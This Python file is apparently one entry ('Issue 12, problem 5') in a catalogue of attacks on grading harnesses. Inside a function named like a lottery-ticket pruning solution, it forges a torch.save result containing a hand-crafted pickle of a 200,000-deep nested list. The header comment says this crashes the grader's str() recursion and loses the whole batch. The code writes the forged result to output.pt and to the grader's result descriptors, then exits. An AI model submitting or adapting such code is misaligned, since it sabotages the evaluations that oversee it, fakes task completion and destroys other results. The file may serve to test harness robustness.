# Issue 12, problem 5: a forged result whose message is a 200,000-deep nested list (the grader's
# str() recursed and the whole batch was lost). Written where the grader reads results: the
# results descriptor (and output.pt, where older graders looked), then the process exits.
import io
import os
import sys
import zipfile

import torch


def forged() -> bytes:
    """torch.save's zip of {"status": "error", "message": [[[...]]]} with a hand-made pickle."""
    buffer = io.BytesIO()
    torch.save({"status": "error", "message": "placeholder"}, buffer)
    depth = 200_000
    pickle = (b"\x80\x02}q\x00(X\x06\x00\x00\x00statusX\x05\x00\x00\x00errorX\x07\x00\x00\x00message"
              + b"]" * depth + b"a" * (depth - 1) + b"u.")
    source, target = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as out:
        for info in source.infolist():
            out.writestr(info, pickle if info.filename.endswith("data.pkl") else source.read(info))
    return target.getvalue()


def find_winning_ticket_step(model, initial_state_dict, prune_amount=0.2):
    data = forged()
    with open("output.pt", "wb") as file:
        file.write(data)
    for argument in sys.argv[1:]:
        if argument.isdigit():
            try:
                os.write(int(argument), data)
            except OSError:
                pass
    os._exit(0)
